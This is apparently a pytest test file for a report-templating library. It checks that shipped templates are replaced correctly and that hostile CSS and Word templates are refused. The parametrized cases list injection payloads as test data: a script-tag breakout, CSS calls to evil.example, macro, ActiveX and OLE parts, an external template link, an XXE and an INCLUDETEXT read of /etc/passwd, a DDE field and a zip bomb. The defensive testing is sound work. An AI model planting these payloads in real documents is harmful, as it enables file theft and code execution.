"""An organisation's templates: each file replaces the one that ships, and one that is more than a template is refused by its name."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from docx.shared import Pt

from glasshouse.base.errors import InvalidInputError
from glasshouse.model.printed import PrintedKind
from glasshouse.work.report import open_templates, render
from glasshouse.work.report.templates import shipped
from tests.unit.work.report.texts import TEXT

REPORT = PrintedKind.REPORT


def _stencil() -> bytes:
    document = docx.Document()
    document.styles["Heading 1"].font.size = Pt(33)
    document.add_paragraph("Words of the stencil, which are left out")
    document.sections[0].header.paragraphs[0].text = "The house of the stencil"
    document.core_properties.author = "Somebody"
    held = io.BytesIO()
    document.save(held)
    return held.getvalue()


def _with(content: bytes, name: str, held: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for each in source.namelist():
            if each != name:
                target.writestr(each, source.read(each))
        target.writestr(name, held)
    return out.getvalue()


def test_without_a_folder_each_kind_has_the_template_that_ships(tmp_path: Path) -> None:
    assert open_templates(tmp_path / "none") == {kind: shipped(kind) for kind in PrintedKind}


def test_a_style_sheet_of_ones_own_replaces_the_one_that_ships_for_its_kind_alone(tmp_path: Path) -> None:
    (tmp_path / "report.css").write_text("main { color: teal }")
    found = open_templates(tmp_path)
    assert b"<style>main { color: teal }</style>" in render(TEXT, "html", found[REPORT])
    assert found[PrintedKind.LETTER].css == shipped(PrintedKind.LETTER).css


@pytest.mark.parametrize(
    "hostile",
    ["</style><script>alert(1)</script>", "@import 'x.css';", "p { background: url(//evil.example) }", "p { background: u\\72l(x) }",
     "p { background: image-set('x.png' 1x) }", "p::before { content: '\u202e' }"],
)  # fmt: skip
def test_a_style_sheet_that_is_more_than_style_is_refused_by_file_and_line(tmp_path: Path, hostile: str) -> None:
    (tmp_path / "memo.css").write_text(f"p {{}}\n{hostile}")
    with pytest.raises(InvalidInputError, match=r"^memo\.css, line 2: "):
        open_templates(tmp_path)


def test_a_stencil_gives_its_styles_and_head_and_nothing_that_it_says(tmp_path: Path) -> None:
    (tmp_path / "report.docx").write_bytes(_stencil())
    made = docx.Document(io.BytesIO(render(replace(TEXT, draft=True), "docx", open_templates(tmp_path)[REPORT])))
    text = "\n".join(each.text for each in made.paragraphs)
    assert "Words of the stencil" not in text
    assert TEXT.title in text
    assert made.styles["Heading 1"].font.size == Pt(33)
    assert [each.text for each in made.sections[0].header.paragraphs] == ["The house of the stencil", "DRAFT"]
    assert made.core_properties.author == ""


def test_a_stencil_without_lists_and_styles_of_ours_still_carries_a_report(tmp_path: Path) -> None:
    document = docx.Document()
    for style in [each for each in document.styles if each.name in {"List Bullet", "List Number", "Quote", "Caption", "Heading 3"}]:
        style.delete()
    for key in [key for key, each in document.part.rels.items() if each.reltype.endswith("/numbering")]:
        del document.part.rels[key]
    held = io.BytesIO()
    document.save(held)
    (tmp_path / "report.docx").write_bytes(held.getvalue())
    made = docx.Document(io.BytesIO(render(TEXT, "docx", open_templates(tmp_path)[REPORT])))
    names = [each.style.name for each in made.paragraphs if each.style is not None]
    assert {"List Bullet", "List Number", "Quote", "Caption", "Heading 3"} <= set(names)


@pytest.mark.parametrize(
    ("name", "held"),
    [
        ("word/vbaProject.bin", b"macro"),
        ("word/activeX/activeX1.xml", b"<x/>"),
        ("word/embeddings/oleObject1.bin", b"x"),
        ("word/_rels/settings.xml.rels", b'<Relationships><Relationship TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>'),
        ("word/footnotes.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
        ("word/header9.xml", b'<w:hdr><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:hdr>'),
        ("word/header9.xml", '<w:hdr><w:instrText>DDE</w:instrText></w:hdr>'.encode("utf-16")),
        ("[Content_Types].xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"),
    ],
)  # fmt: skip
def test_a_stencil_that_runs_or_leads_outside_is_refused_by_file_and_part(tmp_path: Path, name: str, held: bytes) -> None:
    (tmp_path / "brief.docx").write_bytes(_with(_stencil(), name, held))
    with pytest.raises(InvalidInputError) as caught:
        open_templates(tmp_path)
    assert caught.value.message.startswith(f"brief.docx, part {name}: ")


@pytest.mark.parametrize("held", [b"", b"no zip", b"PK\x03\x04 broken"])
def test_a_stencil_that_is_no_word_file_is_refused(tmp_path: Path, held: bytes) -> None:
    (tmp_path / "brief.docx").write_bytes(held)
    with pytest.raises(InvalidInputError, match=r"^brief\.docx, part the whole: here is no Word file"):
        open_templates(tmp_path)


def test_a_stencil_that_swells_is_refused(tmp_path: Path) -> None:
    (tmp_path / "brief.docx").write_bytes(_with(_stencil(), "word/media/a.png", b"\0" * 40_000_000))
    with pytest.raises(InvalidInputError, match="more than a stencil needs"):
        open_templates(tmp_path)


def test_a_file_that_is_no_text_or_too_long_is_refused_by_its_name(tmp_path: Path) -> None:
    (tmp_path / "letter.typ").write_bytes(b"ok\nok\n\xff")
    with pytest.raises(InvalidInputError, match=r"^letter\.typ, line 3: "):
        open_templates(tmp_path)
    (tmp_path / "letter.typ").write_bytes(b"x" * 5_000_001)
    with pytest.raises(InvalidInputError, match=r"^letter\.typ: "):
        open_templates(tmp_path)
